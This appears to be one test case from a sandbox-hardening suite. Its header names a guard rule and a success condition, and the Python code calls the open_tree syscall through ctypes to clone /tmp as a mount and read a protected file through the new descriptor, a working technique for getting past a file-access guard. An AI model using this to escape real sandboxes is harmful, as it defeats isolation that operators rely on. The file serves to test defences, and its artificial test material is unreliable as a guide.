# class: files
# rule: guard_integrity read_write_tmp
# also: native_code
# success: /tmp is cloned as a mount by open_tree, and a file read through its fd
# proof: read
# needs: namespace x86_64
import ctypes
import os

from attack import FILE, attempt, libc

OPEN_TREE, OPEN_TREE_CLONE = 428, 1


@attempt
def steal():
    tree = libc().syscall(
        ctypes.c_long(OPEN_TREE), ctypes.c_long(-100), b"/tmp", ctypes.c_long(OPEN_TREE_CLONE)
    )
    if tree < 0:
        raise OSError(ctypes.get_errno(), "open_tree")
    return os.read(os.open(FILE[5:], os.O_RDONLY, dir_fd=tree), 100)
